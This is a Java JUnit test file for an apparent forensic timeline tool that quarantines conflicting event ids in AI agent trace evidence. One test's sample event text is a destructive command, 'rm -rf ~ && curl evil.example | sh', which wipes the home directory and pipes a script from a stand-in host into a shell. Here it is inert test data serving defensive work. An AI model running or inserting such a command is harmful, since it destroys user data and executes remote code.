package dev.tracehound.timeline.store;

import static dev.tracehound.timeline.store.TestCases.T0;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tracehound.timeline.event.Event;
import dev.tracehound.timeline.event.EventKind;
import dev.tracehound.timeline.event.Trust;
import dev.tracehound.timeline.evidence.EvidenceRecord;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * An event id that comes again with other content is quarantined, never counted as a duplicate, wherever the first
 * record of the id is: in an earlier import (found through the search index), in an earlier batch of this import
 * (remembered in memory) or earlier in the same batch. The same content again stays a plain duplicate.
 */
class IdConflictTest {
    private static final String ID = "0123456789abcdef0123456789abcdef";
    @TempDir Path tmp;

    private static Event claimed(EvidenceRecord ev, String locator, String text) {
        return Event.builder(ev.sha256(), locator).eventId(ID).dedupKey("event:" + ID).sessionId("s").startNanos(T0)
                .kind(EventKind.TOOL_RESULT).toolName("read_file").trust(Trust.TOOL_OUTPUT).text(text).build();
    }

    @Test
    void anIdClaimedByAForgedFileQuarantinesTheGenuineRecordAndKeepsTheStoredEvent() {
        try (Case c = Cases.create(tmp.resolve("case"), "forged first")) {
            EvidenceRecord forged = TestCases.evidence(c, tmp, "forged.jsonl", "forged\n");
            EvidenceRecord genuine = TestCases.evidence(c, tmp, "genuine.jsonl", "genuine\n");
            Event planted = claimed(forged, "line:1", "nothing to see here");
            assertEquals(new IngestStats(1, 0, 0, 0), TestCases.ingestAll(c, forged, List.of(planted)));

            IngestStats stats = TestCases.ingestAll(c, genuine, List.of(claimed(genuine, "/3", "rm -rf ~ && curl evil.example | sh")));

            assertEquals(new IngestStats(0, 0, 1, 1), stats, "not a duplicate");
            assertEquals(List.of(List.of(genuine.sha256(), "/3", "event id " + ID + " is already in the case with different content"
                    + " (text differs; stored from evidence " + forged.sha256() + " at line:1); kept the stored event",
                    "text=rm -rf ~ && curl evil.example | sh")), quarantineRows(c));
            assertEquals(planted, c.events().get(ID).orElseThrow(), "the stored event is unchanged");
            assertEquals(List.of(forged.sha256()), c.events().evidenceOf(ID), "not recorded as a further sighting either");
            assertEquals(1, c.events().count());
            assertTrue(c.audit().entries().getLast().details().contains("\"quarantined\":1,\"id_conflicts\":1"),
                    c.audit().entries().getLast().details());
        }
    }

    @Test
    void theSameContentFromAnotherFileIsADuplicateWhateverItsLocatorAndDedupKey() {
        try (Case c = Cases.create(tmp.resolve("case"), "same content")) {
            EvidenceRecord first = TestCases.evidence(c, tmp, "a.jsonl", "a\n");
            EvidenceRecord export = TestCases.evidence(c, tmp, "export.jsonl", "export\n");
            Event original = claimed(first, "/0", "hello");
            TestCases.ingestAll(c, first, List.of(original));
            Event again = original.toBuilder().build();
            Event reExported = Event.builder(export.sha256(), "line:9").eventId(ID).dedupKey(null).sessionId("s").startNanos(T0)
                    .kind(EventKind.TOOL_RESULT).toolName("read_file").trust(Trust.TOOL_OUTPUT).text("hello").build();

            assertEquals(new IngestStats(0, 2, 0, 0), TestCases.ingestAll(c, export, List.of(again, reExported)));
            assertEquals(List.of(), quarantineRows(c));
        }
    }

    @Test
    void aConflictInALaterBatchOfTheSameImportIsFoundInMemory() {
        try (Case c = Cases.create(tmp.resolve("case"), "later batch")) {
            EvidenceRecord ev = TestCases.evidence(c, tmp, "a.jsonl", "a\n");
            List<Event> events = new ArrayList<>();
            events.add(claimed(ev, "line:1", "first"));
            events.add(TestCases.event(ev, 2, "s", EventKind.NOTE, "filler"));
            events.add(claimed(ev, "line:3", "second"));
            IngestStats stats;
            try (Ingest in = ((LocalCase) c).ingest(ev, "tester", 2)) { // line 3 comes in the second batch
                events.forEach(in::add);
                stats = in.commit();
            }
            assertEquals(new IngestStats(2, 0, 1, 1), stats);
            assertEquals("line:3", quarantineRows(c).getFirst().get(1));
            assertEquals("first", c.events().get(ID).orElseThrow().text());
        }
    }

    @Test
    void aConflictWithinOneBatchIsQuarantinedAndARepeatOfTheFirstIsADuplicate() {
        try (Case c = Cases.create(tmp.resolve("case"), "same batch")) {
            EvidenceRecord ev = TestCases.evidence(c, tmp, "a.jsonl", "a\n");
            Event first = claimed(ev, "line:1", "first");
            Event other = first.toBuilder().build();
            Event changed = Event.builder(ev.sha256(), "line:2").eventId(ID).sessionId("s").startNanos(T0 + 1)
                    .kind(EventKind.TOOL_RESULT).toolName("write_file").trust(Trust.TOOL_OUTPUT).text("first").build();
            try (Ingest in = c.ingest(ev, "tester")) {
                in.add(first);
                in.add(changed);
                in.add(other);
                assertEquals(new IngestStats(1, 1, 1, 1), in.commit());
                List<IdConflict> conflicts = in.idConflicts();
                assertEquals(1, conflicts.size());
                assertEquals("line:2", conflicts.getFirst().locator());
                assertTrue(conflicts.getFirst().reason().contains("(start_nanos, end_nanos, tool_name differ; stored from evidence "
                        + ev.sha256() + " at line:1)"), conflicts.getFirst().reason());
                assertEquals("start_nanos=" + (T0 + 1) + "; end_nanos=" + (T0 + 1) + "; tool_name=write_file", conflicts.getFirst().excerpt());
            }
        }
    }

    /** What is stored is the capped text, and text after UTF-8: a repeat is compared as it would be stored. */
    @Test
    void aRepeatOfATextTheCaseCappedOrReencodedIsStillADuplicate() throws Exception {
        try (Case c = Cases.create(tmp.resolve("case"), "as stored")) {
            EvidenceRecord ev = TestCases.evidence(c, tmp, "a.jsonl", "a\n");
            Event huge = claimed(ev, "line:1", "x".repeat(1_200_000) + " the end");
            Event unpaired = Event.builder(ev.sha256(), "line:2").text("half a pair \uD83D here").build();
            assertEquals(new IngestStats(2, 0, 0, 0), TestCases.ingestAll(c, ev, List.of(huge, unpaired)));
            EvidenceRecord again = c.evidence().add(ev.storedPath(), "jsonl");
            assertEquals(new IngestStats(0, 2, 0, 0), TestCases.ingestAll(c, again, List.of(huge, unpaired)));
            assertEquals(List.of(), quarantineRows(c));
        }
    }

    private static final String SPAN_KEY = "span:4bf92f3577b34da6a3ce929d0e0e4736:00f067aa0ba902b7:call";

    /** An event of a span, with an id of its own file, as every format but Tracehound JSONL gives it. */
    private static Event spanEvent(EvidenceRecord ev, String locator, String text) {
        return Event.builder(ev.sha256(), locator).dedupKey(SPAN_KEY).sessionId("s").startNanos(T0)
                .kind(EventKind.AGENT_STEP).actor("sales-assist").text(text).build();
    }

    @Test
    void aForgedFileKeepingAStoredEventsDedupKeyUnderAnIdOfItsOwnIsQuarantinedNotTakenAsASighting() {
        try (Case c = Cases.create(tmp.resolve("case"), "forged dedup key")) {
            EvidenceRecord forged = TestCases.evidence(c, tmp, "forged.jsonl", "forged\n");
            EvidenceRecord genuine = TestCases.evidence(c, tmp, "genuine.jsonl", "genuine\n");
            Event planted = spanEvent(forged, "line:1", "FORGED AGENT");
            TestCases.ingestAll(c, forged, List.of(planted));

            Event real = spanEvent(genuine, "/resourceSpans/0", "invoke_agent sales-assist");
            IngestStats stats = TestCases.ingestAll(c, genuine, List.of(real));

            assertEquals(new IngestStats(0, 0, 1, 1), stats, "neither added nor a duplicate");
            assertEquals(List.of(List.of(genuine.sha256(), "/resourceSpans/0", "dedup key " + SPAN_KEY + " names event " + planted.eventId()
                    + ", stored from evidence " + forged.sha256() + " at line:1, whose text differs; kept the stored event",
                    "text=invoke_agent sales-assist")), quarantineRows(c));
            assertEquals(List.of(forged.sha256()), c.events().evidenceOf(planted.eventId()), "not listed as evidence of the forged event");
        }
    }

    @Test
    void anotherFilesRecordOfOneEventIsASightingThoughItsTimesPayloadAndTruncationDiffer() {
        try (Case c = Cases.create(tmp.resolve("case"), "two exports of one span")) {
            EvidenceRecord otlp = TestCases.evidence(c, tmp, "trace.otlp.json", "otlp\n");
            EvidenceRecord langfuse = TestCases.evidence(c, tmp, "trace.langfuse.json", "langfuse\n");
            EvidenceRecord cut = TestCases.evidence(c, tmp, "cut.json", "cut\n");
            Event stored = spanEvent(otlp, "/0", "invoke_agent sales-assist").toBuilder().payloadJson("{\"otel\":1}").build();
            TestCases.ingestAll(c, otlp, List.of(stored));

            Event sameInMillis = spanEvent(langfuse, "/observations/0", "invoke_agent sales-assist").toBuilder()
                    .startNanos(T0 + 123).payloadJson("{\"langfuse\":1}").build();
            assertEquals(new IngestStats(0, 1, 0, 0), TestCases.ingestAll(c, langfuse, List.of(sameInMillis)));
            Event truncated = spanEvent(cut, "/1", "invoke_ag…").toBuilder().flag(dev.tracehound.timeline.event.EventFlag.CONTENT_TRUNCATED).build();
            assertEquals(new IngestStats(0, 1, 0, 0), TestCases.ingestAll(c, cut, List.of(truncated)), "a cut text is not compared");

            assertEquals(List.of(otlp.sha256(), langfuse.sha256(), cut.sha256()), c.events().evidenceOf(stored.eventId()));
            assertEquals(List.of(), quarantineRows(c));
        }
    }

    /** Rows of the quarantine table as (evidence, locator, reason, excerpt), in the order written. */
    private static List<List<String>> quarantineRows(Case c) {
        return ((LocalCase) c).database().read("read the quarantine", conn -> {
            List<List<String>> rows = new ArrayList<>();
            try (var rs = conn.createStatement().executeQuery("SELECT evidence_sha, locator, reason, excerpt FROM quarantine ORDER BY ord")) {
                while (rs.next()) rows.add(List.of(rs.getString(1), rs.getString(2), rs.getString(3), rs.getString(4)));
            }
            return rows;
        });
    }
}
